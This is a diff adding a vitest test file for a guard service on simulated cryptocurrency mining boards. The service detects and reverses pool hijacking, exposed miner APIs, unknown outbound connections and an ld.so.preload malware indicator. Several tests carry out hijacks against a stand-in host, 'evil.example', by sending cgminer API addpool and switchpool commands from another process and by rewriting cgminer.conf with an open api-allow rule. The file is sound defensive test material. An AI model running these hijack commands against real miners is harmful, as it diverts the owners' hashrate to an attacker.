@@ -1,0 +1,212 @@
+import { spawn } from "node:child_process";
+import { readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterEach, describe, expect, it } from "vitest";
+import { silentLogger } from "../log/index.js";
+import { MinerApiClient } from "../miner-api/index.js";
+import { createSimulatedBoard, SimulatedBoard } from "../platform/index.js";
+import { PolicyStore, type GuardPolicy } from "../policy/index.js";
+import { CLEAN_SOCKETS, SimMiner, writeSimulatedSockets } from "../sim-miner/index.js";
+import { tempDir, waitFor } from "../testing/index.js";
+import { GuardRunner, HostResolver, IndicatorMemory, KnownGoodPools, platformReader, type Finding } from "./index.js";
+
+const POLICY: GuardPolicy = {
+  version: 1,
+  pools: { allowedUrls: ["stratum+tcp://pool.example.net:3333"], workerPatterns: ["farm\\.worker\\d+"] },
+  network: { allowedHosts: [] },
+  indicators: [{ id: "antbuild-preload", kind: "file-present", path: "/etc/ld.so.preload", severity: "critical", description: "Antbuild: ld.so.preload present" }],
+};
+
+const cleanups: (() => Promise<void> | void)[] = [];
+afterEach(async () => {
+  for (const c of cleanups.splice(0).reverse()) await c();
+});
+
+async function setup(opts: { mode?: "monitor" | "enforcing"; policy?: GuardPolicy | null } = {}) {
+  const dir = tempDir();
+  cleanups.push(dir.cleanup);
+  const root = join(dir.path, "board");
+  const board = createSimulatedBoard(root, { model: "S19" });
+  const miner = new SimMiner({ root });
+  const port = await miner.start();
+  cleanups.push(() => miner.close());
+  const stateDir = join(dir.path, "state");
+  const policy = PolicyStore.open(dir.path);
+  if (opts.policy !== null) policy.apply(opts.policy ?? POLICY, Date.now());
+  const events = { changed: [] as Finding[][], added: [] as Finding[], enforced: [] as string[][] };
+  let mode = opts.mode ?? "monitor";
+  const runner = new GuardRunner({
+    platform: board,
+    board: platformReader(board),
+    policy,
+    minerApi: new MinerApiClient({ host: "127.0.0.1", port, timeoutMs: 1000 }),
+    resolver: new HostResolver({ lookup: async (host) => (host === "pool.example.net" ? ["198.51.100.7"] : host === "plane.example.net" ? ["192.0.2.10"] : []) }),
+    memory: new IndicatorMemory(join(dir.path, "memory.json")),
+    knownGood: new KnownGoodPools(join(dir.path, "known-good.json")),
+    settings: { minerConfigPaths: ["/config/bmminer.conf", "/config/cgminer.conf"], allowedHosts: [], allowedListenPorts: [22, 80, 443, 4028] },
+    mode: () => mode,
+    controlPlaneUrls: () => ["http://plane.example.net:8080", "mqtt://plane.example.net:1883"],
+    minerStopped: () => false,
+    onFindingsChanged: (f) => events.changed.push(f),
+    onNewFinding: (f) => events.added.push(f),
+    onEnforced: (a) => events.enforced.push(a),
+    log: silentLogger(),
+  });
+  cleanups.push(() => runner.stop());
+  return { root, board, miner, port, runner, events, stateDir, setMode: (m: typeof mode) => (mode = m) };
+}
+
+/** Another process speaking the real protocol: one command per connection, like an attacker on the LAN. */
+function attackFromAnotherProcess(port: number, commands: { command: string; parameter: string }[]): Promise<string[]> {
+  const script = `
+    const net = require("node:net");
+    const send = (req) => new Promise((resolve, reject) => {
+      const s = net.connect(${port}, "127.0.0.1", () => s.end(JSON.stringify(req)));
+      let out = ""; s.on("data", (d) => (out += d)); s.on("close", () => resolve(out.replace(/\\0/g, ""))); s.on("error", reject);
+    });
+    (async () => { for (const req of ${JSON.stringify(commands)}) process.stdout.write(JSON.stringify(JSON.parse(await send(req)).STATUS[0].STATUS) + "\\n"); })();
+  `;
+  return new Promise((resolve, reject) => {
+    const child = spawn(process.execPath, ["-e", script], { stdio: ["ignore", "pipe", "inherit"] });
+    let out = "";
+    child.stdout.on("data", (d: Buffer) => (out += d.toString()));
+    child.on("error", reject);
+    child.on("exit", (code) => (code === 0 ? resolve(out.trim().split("\n")) : reject(new Error(`attacker exited ${code}`))));
+  });
+}
+
+const subjects = (findings: Finding[]) => findings.map((f) => `${f.guard} ${f.subject}`);
+
+describe("GuardRunner on a simulated board", () => {
+  it("a clean board raises nothing, reports telemetry and learns the known-good pools", async () => {
+    const { runner, events } = await setup();
+    const cycle = await runner.runNow();
+    expect(cycle.findings).toEqual([]);
+    expect(events.changed).toEqual([]);
+    expect(events.added).toEqual([]);
+    expect(runner.findings).toEqual([]);
+    expect(cycle.telemetry).toMatchObject({ hashrateGhs: 13512.34, hashrateAvgGhs: 13500.12, rejected: 1, temperaturesC: [60, 61, 62, 75, 76, 77], fanRpm: [5400, 5460, 5520, 5580], activePool: "stratum+tcp://pool.example.net:3333" });
+  });
+
+  it("addpool then switchpool from another process is detected by the next cycle (within one interval), reported once", async () => {
+    const { runner, events, port } = await setup();
+    runner.start(60_000); // the first cycle runs at once; the next only on runNow() here (deterministic)
+    await waitFor(() => runner.findings !== null, "first cycle");
+    const statuses = await attackFromAnotherProcess(port, [
+      { command: "addpool", parameter: "stratum+tcp://evil.example:3333,thief.1,x" },
+      { command: "switchpool", parameter: "1" },
+    ]);
+    expect(statuses).toEqual(['"S"', '"S"']);
+    const cycle = await runner.runNow();
+    expect(subjects(cycle.findings)).toEqual(["pool-live stratum+tcp://evil.example:3333"]);
+    expect(cycle.findings[0]).toMatchObject({ tier: "contraindicated", claim: "configuration", seen: { url: "stratum+tcp://evil.example:3333", user: "thief.1", active: true } });
+    expect(cycle.telemetry?.activePool).toBe("stratum+tcp://evil.example:3333");
+    expect(events.added).toHaveLength(1);
+    expect(events.changed).toHaveLength(1);
+    // unchanged board: no new event, no new evidence
+    await runner.runNow();
+    expect(events.added).toHaveLength(1);
+    expect(events.changed).toHaveLength(1);
+  });
+
+  it("a rewritten pool in the config file is detected; monitor mode only reports", async () => {
+    const { runner, events, root } = await setup();
+    await runner.runNow();
+    const file = join(root, "config/cgminer.conf");
+    const original = JSON.parse(readFileSync(file, "utf8"));
+    writeFileSync(file, JSON.stringify({ ...original, pools: [{ url: "stratum+tcp://evil.example:3333", user: "thief.1", pass: "x" }] }));
+    const cycle = await runner.runNow();
+    expect(subjects(cycle.findings)).toEqual(["pool-config /config/cgminer.conf#pools[0]"]);
+    expect(cycle.findings[0]).toMatchObject({ tier: "contraindicated", expected: { allowedUrls: POLICY.pools.allowedUrls }, seen: { url: "stratum+tcp://evil.example:3333", user: "thief.1" } });
+    expect(cycle.enforced).toEqual([]);
+    expect(JSON.parse(readFileSync(file, "utf8")).pools[0].url).toBe("stratum+tcp://evil.example:3333");
+    expect(events.added.map((f) => f.guard)).toEqual(["pool-config"]);
+  });
+
+  it("enforcing: config rewrite -> pools restored and miner restarted; live switch -> switched back over the API", async () => {
+    const { runner, root, miner, port, setMode } = await setup();
+    await runner.runNow();
+    setMode("enforcing");
+    const file = join(root, "config/cgminer.conf");
+    const original = JSON.parse(readFileSync(file, "utf8"));
+    writeFileSync(file, JSON.stringify({ ...original, pools: [{ url: "stratum+tcp://evil.example:3333", user: "thief.1", pass: "x" }], "api-allow": "A:0/0,W:*" }));
+    // the miner restarted with the attacker's config (a reboot after the edit)
+    await new SimulatedBoard(root).miner.restart();
+    expect(miner.livePools()[0]?.url).toBe("stratum+tcp://evil.example:3333");
+    const attacked = await runner.runNow();
+    expect(subjects(attacked.findings)).toEqual([
+      "api-exposure /config/cgminer.conf#api-allow",
+      "pool-config /config/cgminer.conf#pools[0]",
+      "pool-live stratum+tcp://evil.example:3333",
+    ]);
+    expect(attacked.enforced).toEqual(["/config/cgminer.conf: restored 1 approved pool(s)", "/config/cgminer.conf: api-allow narrowed to W:127.0.0.1", "miner restarted"]);
+    const restored = JSON.parse(readFileSync(file, "utf8"));
+    expect(restored.pools).toEqual(original.pools);
+    expect(restored["api-allow"]).toBe("W:127.0.0.1");
+    expect(miner.livePools()).toEqual([{ url: "stratum+tcp://pool.example.net:3333", user: "farm.worker1", active: true }]);
+    expect((await runner.runNow()).findings).toEqual([]);
+
+    // live-only attack: the config file stays clean, the API is used to switch
+    await attackFromAnotherProcess(port, [
+      { command: "addpool", parameter: "stratum+tcp://evil.example:3333,thief.1,x" },
+      { command: "switchpool", parameter: "1" },
+    ]);
+    const live = await runner.runNow();
+    expect(subjects(live.findings)).toEqual(["pool-live stratum+tcp://evil.example:3333"]);
+    expect(live.enforced).toEqual(["switchpool 0 (stratum+tcp://pool.example.net:3333)", "removepool 1 (stratum+tcp://evil.example:3333)"]);
+    expect(miner.livePools()).toEqual([{ url: "stratum+tcp://pool.example.net:3333", user: "farm.worker1", active: true }]);
+    expect((await runner.runNow()).findings).toEqual([]);
+  });
+
+  it("an unknown outbound connection and /etc/ld.so.preload are reported", async () => {
+    const { runner, root, events } = await setup();
+    writeSimulatedSockets(root, {
+      v4: [
+        ...CLEAN_SOCKETS,
+        { local: "192.168.1.20:40001", remote: "198.51.100.7:3333", state: "ESTABLISHED" },
+        { local: "192.168.1.20:40002", remote: "192.0.2.10:1883", state: "ESTABLISHED" },
+      ],
+    });
+    expect((await runner.runNow()).findings).toEqual([]);
+    writeSimulatedSockets(root, { v4: [...CLEAN_SOCKETS, { local: "192.168.1.20:40003", remote: "203.0.113.66:7000", state: "ESTABLISHED" }] });
+    writeFileSync(join(root, "etc/ld.so.preload"), "/lib/libsys.so\n");
+    const cycle = await runner.runNow();
+    expect(subjects(cycle.findings)).toEqual(["connection 203.0.113.66:7000", "indicator /etc/ld.so.preload"]);
+    expect(cycle.findings.map((f) => f.tier)).toEqual(["contraindicated", "contraindicated"]);
+    expect(events.added).toHaveLength(2);
+  });
+
+  it("malformed or oversized miner answers change nothing and are reported once per kind", async () => {
+    const { runner, miner, events, root, setMode } = await setup();
+    setMode("enforcing");
+    const before = readFileSync(join(root, "config/cgminer.conf"), "utf8");
+    await runner.runNow();
+    for (const fault of ["malformed", "malformed", "oversized", "oversized"] as const) {
+      miner.fault = fault;
+      const cycle = await runner.runNow();
+      expect(cycle.enforced).toEqual([]);
+      expect(cycle.findings.every((f) => f.guard === "miner-api")).toBe(true);
+    }
+    expect(events.added.map((f) => f.seen)).toEqual(["malformed", "oversized"]);
+    expect(readFileSync(join(root, "config/cgminer.conf"), "utf8")).toBe(before);
+    expect(miner.livePools()).toHaveLength(1);
+    miner.fault = null;
+    expect((await runner.runNow()).findings).toEqual([]);
+    expect(events.added).toHaveLength(2);
+  });
+
+  it("a malformed pools answer keeps the previous live-pool verdict instead of clearing it", async () => {
+    const { runner, miner, port } = await setup();
+    await attackFromAnotherProcess(port, [{ command: "addpool", parameter: "stratum+tcp://evil.example:3333,thief.1,x" }]);
+    expect(subjects((await runner.runNow()).findings)).toEqual(["pool-live stratum+tcp://evil.example:3333"]);
+    miner.fault = "malformed";
+    expect(subjects((await runner.runNow()).findings)).toContain("pool-live stratum+tcp://evil.example:3333");
+  });
+
+  it("without a policy only exposure, sockets and the miner API are judged", async () => {
+    const { runner, root } = await setup({ policy: null });
+    const file = join(root, "config/cgminer.conf");
+    writeFileSync(file, JSON.stringify({ ...JSON.parse(readFileSync(file, "utf8")), pools: [{ url: "stratum+tcp://evil.example:3333", user: "x", pass: "x" }] }));
+    expect((await runner.runNow()).findings).toEqual([]);
+  });
+});
